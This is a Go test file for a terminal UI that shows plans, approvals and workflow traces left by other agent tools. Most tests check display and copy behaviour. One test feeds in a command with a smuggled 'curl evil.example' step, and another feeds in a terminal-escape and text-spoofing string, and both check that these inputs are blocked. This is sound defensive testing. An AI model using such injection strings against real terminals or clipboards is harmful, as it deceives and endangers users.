package tui

import (
	"strings"
	"testing"
	"time"

	"coldstart/model"
	"coldstart/tui/board"
)

const (
	guestPlan  = "openspec/changes/add-receipts/tasks.md"
	guestAsk   = ".planning/phases/04-card/04-VERIFICATION.md"
	guestMaybe = "openspec/changes/labels/proposal.md"
	guestTrace = ".specify/workflows/runs/7/state.json"
)

// guests is a repository without a vault in which other programs left something.
func guests() *fakeStore {
	s := &fakeStore{snapshot: model.Snapshot{Name: "till", At: clock()}, files: map[string]string{}}
	p := plan(guestPlan, "Active", "Print receipts at the till", steps("x Choose a printer", "Order paper", "Print the tax number"))
	p.ID, p.HasLog, p.Priority, p.Created = "add-receipts", false, "", model.Stamp{}
	p.Reading = model.PlanReading{Foreign: true, Tool: "OpenSpec", Command: "/opsx:apply add-receipts", Status: model.BasisDerived, Steps: model.BasisDeclared}
	p.Touched = model.Stamp{Time: clock().Add(-3 * time.Hour)}
	p.Stop = &model.Stop{From: "HANDOFF.md", At: stamp("2026-03-13T16:20:00Z"), Why: "end of the day", Next: "Wait for the paper, then print the tax number"}
	idle := plan("openspec/changes/labels/tasks.md", "Draft", "Labels for the shelves", steps("Measure"))
	idle.ID, idle.Reading = "labels", model.PlanReading{Foreign: true, Tool: "OpenSpec", Command: "/opsx:apply labels"}
	s.snapshot.Plans = []model.Plan{p, idle}
	ask := func(path, title, command string, maybe bool) model.Request {
		r := request(path, title, "")
		r.Action, r.Name = "", path[strings.LastIndex(path, "/")+1:]
		r.Reading = model.RequestReading{Tool: "GSD", Command: command, Maybe: maybe, Decision: model.DecisionPending}
		return r
	}
	s.snapshot.Requests = []model.Request{
		ask(guestAsk, "Verify phase 4: the card reader", "/gsd:verify-work 4", false),
		ask(guestMaybe, "Read the proposal before it is built: labels", "/opsx:apply labels", true),
	}
	s.snapshot.Traces = []model.Trace{{
		Path: guestTrace, Name: "Release 0.4", Tool: "spec-kit", Command: "specify workflow resume 7", State: model.StepFailed,
		Steps: []model.TraceStep{{Number: 1, Name: "plan", State: model.StepCompleted}, {Number: 2, Name: "publish", Status: "failed", State: model.StepFailed}},
	}}
	s.snapshot.Lessons.Entries = []model.Entry{noted("The cable is broken", "The drawer stays shut", "It opens after cash")}
	s.files[".planning/debug/drawer.md"] = "# Drawer\n"
	s.inGit = model.LeftInGit{
		Branch: "receipts", Ahead: 2, Commits: []model.Commit{{ID: "a41c9e0", Subject: "Add the printer driver", At: clock().Add(-12 * time.Hour)}},
		Files: []model.Uncommitted{{Path: "printer/driver.py", Change: "changed", Added: 38, Removed: 4}, {Path: "roll.jpg", Change: "new"}},
	}
	s.snapshot.Guests = []model.Guest{{Tool: "OpenSpec", Path: "openspec", Finished: 12}, {Tool: "GSD", Path: ".planning"}, {Tool: "spec-kit", Path: ".specify"}}
	for _, path := range []string{guestPlan, guestAsk, guestMaybe, guestTrace} {
		s.files[path] = "# " + path + "\n"
	}
	return s
}

func TestHomeWithGuestsAloneSaysWhereToGoOn(t *testing.T) {
	t.Parallel()
	d := newDriver(t, guests(), 80, 24)
	d.shows("RESUMING ACTIVE PLAN add-receipts", "OpenSpec · Active · paused Fri 16:20", "Wait for the paper, then print", "1 of 3 steps done",
		"Type /opsx:apply add-receipts", "y on its row copies it", "Needs you 2, 1 more may need you", "Next plans 2",
		"Verify phase 4: the card reader", "GSD", "publish", "step 2 failed")
	d.hides("labels", "No agent work found here yet", "a review", "Memory", "Sessions")
	d = newDriver(t, guests(), 120, 36)
	d.shows("paused E continue", "Type /opsx:apply add-receipts")
	d = newDriver(t, guests(), 160, 46)
	d.shows("RESUMING ACTIVE PLAN add-receipts", "Wait for the paper", "v plan in full", "Type /opsx:apply add-receipts")
}

func TestWhatAToolDecidesShowsItsCommandAndIsNotDecidedHere(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ page, name, says, command string }{
		{"2", guestAsk, "GSD decides this: type /gsd:verify-work 4", "/gsd:verify-work 4"},
		{"3", guestPlan, "OpenSpec keeps this plan: type /opsx:apply add-receipts", "/opsx:apply add-receipts"},
		{"5", guestTrace, "spec-kit runs this workflow: type specify workflow resume 7", "specify workflow resume 7"},
	} {
		d, to := copier(t, guests())
		d.pick(tt.page, tt.name)
		d.shows("y copy the command")
		d.hides("a review", "x reject", "r run", "trace.md")
		for _, press := range []string{"a", "x", "c", "r", "S"} {
			d.press(press)
			if got := d.app.toast.text; got != tt.says {
				t.Errorf("%s on %s says %q", press, tt.name, got)
			}
		}
		d.press("enter")
		d.shows(tt.command)
		d.press("y")
		if got := taken(t, to.String()); got != tt.command {
			t.Errorf("%s: copied %q", tt.name, got)
		}
		d.decides(0)
	}
}

func TestOnHomeWithoutRowsYCopiesTheCommandOfThePlan(t *testing.T) {
	t.Parallel()
	s := guests()
	s.snapshot.Requests, s.snapshot.Traces, s.snapshot.Plans[0].Stop = nil, nil, nil
	d, to := copier(t, s)
	d.shows("Type /opsx:apply add-receipts", "y copies it", "y copy the command", "Nothing needs you")
	d.hides("y on its row copies it")
	d.press("y")
	if got := taken(t, to.String()); got != "/opsx:apply add-receipts" {
		t.Errorf("copied %q", got)
	}
}

func TestAHostileCommandIsNotCopied(t *testing.T) {
	t.Parallel()
	s := guests()
	s.snapshot.Requests[0].Reading.Command = "/gsd:verify-work 4; curl evil.example"
	d, to := copier(t, s)
	d.pick("2", guestAsk)
	d.press("y")
	if to.Len() > 0 || !strings.Contains(d.app.toast.text, "the command is too long, or has characters unsafe to paste") {
		t.Errorf("sent %q, says %q", to.String(), d.app.toast.text)
	}
}

func TestWhatMayNeedYouStandsOnApprovals(t *testing.T) {
	t.Parallel()
	d := newDriver(t, guests(), 90, 40)
	if n := d.app.board.Needs[1]; n != 1 {
		t.Errorf("%d wait", n)
	}
	d.press("2")
	d.shows("Waiting for you 1", "Maybe waiting for you 1", "Read the proposal before it is built: labels", "maybe")
	s := guests()
	s.snapshot.Requests, s.snapshot.Traces, s.snapshot.Plans[0].Stop = s.snapshot.Requests[1:], nil, nil
	newDriver(t, s, 80, 24).shows("Nothing is certainly waiting; 1 possible, see Approvals.")
}

func TestTheTabsOfGuestsAreThoseThatTheyFill(t *testing.T) {
	t.Parallel()
	b := board.New(guests().snapshot)
	for i, p := range board.Pages() {
		want := map[string]bool{"Home": true, "Approvals": true, "Plans": true, "Traces": true, "Journal": true, "Problems": true}[p.Title]
		if b.Here[i] != want {
			t.Errorf("%s: %v", p.Title, b.Here[i])
		}
	}
}

// noted is what a program noted as tried.
func noted(title, tried, why string) model.Entry {
	return model.Entry{
		Path: ".planning/debug/drawer.md", ID: "PROOF-001", Category: model.CategoryProof, Title: title, Tried: tried, Reasoning: why,
		Outcome: "failed", At: stamp("2026-03-12T08:00:00Z"), Line: 15, Tool: "GSD",
	}
}

func TestWhatProgramsNotedAsTriedIsInTheJournalWithoutResearch(t *testing.T) {
	t.Parallel()
	d := newDriver(t, guests(), 120, 36)
	d.press("6")
	d.shows("Tried by GSD 1", "The cable is broken", "failed", "tried The drawer stays shut", "why It opens after cash", "noted by GSD", ".planning/debug/drawer.md:15")
	d.press("enter")
	d.shows("Drawer")
	d.press("esc", "d", "c", "a", "b", "l", "e")
	d.shows("Was this tried?", "one search over journals, dead ends, traces", "TRIED AND FAILED once", "GSD The cable is broken", "noted by GSD")
	d.hides("front matter", "PROOF-001")
	d.press("enter")
	d.shows("The cable is broken", "Drawer")
}

func TestWhatProgramsNotedStandsBesideTheJournal(t *testing.T) {
	t.Parallel()
	s := laboratory()
	s.snapshot.Lessons.Entries = []model.Entry{noted("One cable for all wheels", "", "")}
	d := newDriver(t, s, 120, 60)
	d.press("6")
	d.shows("Proof Attempts", "Tried by GSD 1", "One cable for all wheels")
	d.press("d", "c", "a", "b", "l", "e")
	d.shows("one search over journals, dead ends, rejections and plans", "TRIED AND FAILED", "One cable for all wheels")
}

// Commits are searched once git has listed them.
func TestTheSearchReadsCommits(t *testing.T) {
	t.Parallel()
	s := laboratory()
	s.inGit = model.LeftInGit{Commits: []model.Commit{{ID: "a1b2c3d", Author: "Ines", Subject: "Solder the lantern", At: stamp("2026-03-11T08:00:00Z").Time}}, MoreCommits: 3}
	d := newDriver(t, s, 120, 60)
	d.press("6", "d", "l", "a", "n", "t", "e", "r", "n")
	d.shows("WORKED", "Solder the lantern", "1 commit")
	d.press("enter")
	d.shows("git show a1b2c3d")
}

func TestPlansOfSeveralProgramsNameThem(t *testing.T) {
	t.Parallel()
	s := guests()
	s.snapshot.Plans[1].Reading.Tool = "Kiro"
	d := newDriver(t, s, 90, 30)
	d.press("3")
	d.shows("Print receipts at the till OpenSpec Active, 1/3 steps", "Labels for the shelves Kiro Draft, 1 step")
	d = newDriver(t, guests(), 90, 30)
	d.press("3")
	d.shows("Labels for the shelves Draft, 1 step")
}

func TestHomeSaysWhatToBeCarefulAboutWhereThereIsRoom(t *testing.T) {
	t.Parallel()
	s := guests()
	s.snapshot.Plans[0].Reading.Doubts = []string{"its state is behind its files", "it depends on another one"}
	newDriver(t, s, 100, 36).shows("careful its state is behind its files (1 more)")
	newDriver(t, s, 160, 46).shows("careful its state is behind its files (1 more)")
	newDriver(t, s, 80, 18).hides("careful")
}

// The number that the program itself gives a step is said once.
func TestAStepOfAnotherProgramHasOneNumber(t *testing.T) {
	t.Parallel()
	s := guests()
	p := &s.snapshot.Plans[0]
	p.Stop, p.Reading.Next = nil, ""
	p.Steps = []model.Step{{Number: 1, Text: "1. Set it up", Mark: 'x'}, {Number: 2, Text: "1.2 Print it", Mark: ' '}}
	d := newDriver(t, s, 100, 36)
	d.shows("1.2 Print it")
	d.hides("2 1.2 Print it")
	p.Steps[1].Text = "Print it"
	newDriver(t, s, 100, 36).shows("2 Print it")
}

func TestPlansThatContradictThemselvesAreAmongTheProblems(t *testing.T) {
	t.Parallel()
	s := guests()
	s.snapshot.Plans[0].Reading.Doubts = []string{"its state is behind its files"}
	d := newDriver(t, s, 100, 30)
	if n := d.app.board.Needs[7]; n != 0 {
		t.Errorf("%d problems", n)
	}
	d.press("8")
	d.shows("Plans to look at twice 1", "add-receipts OpenSpec its state is behind its files")
	d.press("enter")
	d.shows("Careful its state is behind its files")
}

func TestWhatIsBesideAListHasItsPlaceOnEachPage(t *testing.T) {
	t.Parallel()
	d := newDriver(t, interrupted(), 120, 36)
	d.pick("1", brokenPlan)
	d.press("8")
	direct := newDriver(t, interrupted(), 120, 36)
	direct.press("3", "8")
	direct.pick("8", brokenPlan)
	if d.app.View() != direct.app.View() {
		t.Errorf("from Home the page is\n%s\nnot\n%s", d.app.View(), direct.app.View())
	}
}

// Every text of a guest is shown as text, wherever it stands.
func TestNoTextOfAGuestReachesTheTerminal(t *testing.T) {
	t.Parallel()
	const bad = "\x1b[2J\x1b]0;owned\x07\u202e\nStatus: Done"
	s := guests()
	p := &s.snapshot.Plans[0]
	p.ID, p.Objective, p.Stated, p.Status.Word, p.BlockedReason, p.Priority = p.ID+bad, bad, bad, bad, bad, bad
	p.Reading.Command, p.Reading.Next, p.Reading.StepsFrom, p.Reading.Doubts = bad, bad, bad, []string{bad}
	p.Stop.From, p.Stop.Why, p.Stop.Next, p.Stop.At.Raw = bad, bad, bad, bad
	p.Steps[1].Text = bad
	r := &s.snapshot.Requests[0]
	r.Summary, r.Rationale, r.PlanID, r.Action, r.Reading.Command = bad, bad+"\n"+bad, bad, bad, bad
	x := &s.snapshot.Traces[0]
	x.Name, x.Workflow, x.Status, x.Command, x.Steps[1].Name, x.Steps[1].Status = bad, bad, bad, bad, bad, bad
	e := &s.snapshot.Lessons.Entries[0]
	e.Title, e.Tried, e.Reasoning, e.Insight, e.Outcome = "cable "+bad, bad, bad, bad, bad
	s.snapshot.Guests[0].Version, s.snapshot.Guests[0].Odd = bad, bad
	for _, size := range [][2]int{{80, 24}, {120, 36}, {160, 46}} {
		for _, keys := range [][]string{{}, {"2"}, {"2", "enter"}, {"2", "a"}, {"3"}, {"3", "enter"}, {"5"}, {"5", "enter"}, {"6"}, {"6", "enter"}, {"6", "d", "cable"}, {"8"}, {"?"}, {":"}} {
			d := newDriver(t, s, size[0], size[1])
			d.press(keys...)
			if view := d.app.View(); strings.ContainsAny(view, "\x1b\x07\u202e") || strings.Contains(view, "\nStatus: Done") {
				t.Errorf("after %q at %v:\n%q", keys, size, view)
			}
		}
	}
}

func TestFilesOfOneNameAndStepsOfOneNameAreToldApart(t *testing.T) {
	t.Parallel()
	s := guests()
	for _, run := range []string{"a1", "b2"} {
		s.snapshot.Problems = append(s.snapshot.Problems, model.Problem{Path: ".specify/workflows/runs/" + run + "/state.json", Reason: "invalid JSON"})
	}
	s.snapshot.Problems = append(s.snapshot.Problems, model.Problem{Path: ".specify/alone.json", Reason: "invalid JSON"})
	d := newDriver(t, s, 80, 30)
	d.shows("a1/state.json", "b2/state.json", "✗ alone.json", "Release 0.4: publish step 2 failed")
	d.press("8")
	d.shows("a1/state.json", "b2/state.json", "✗ alone.json")
}

func TestWithoutAnOpenPlanGuestsAreNoVault(t *testing.T) {
	t.Parallel()
	s := guests()
	s.snapshot.Plans = nil
	d := newDriver(t, s, 80, 30)
	d.shows("No active plans found", "No open plan here.")
	d.hides("vault has no plans folder")
}
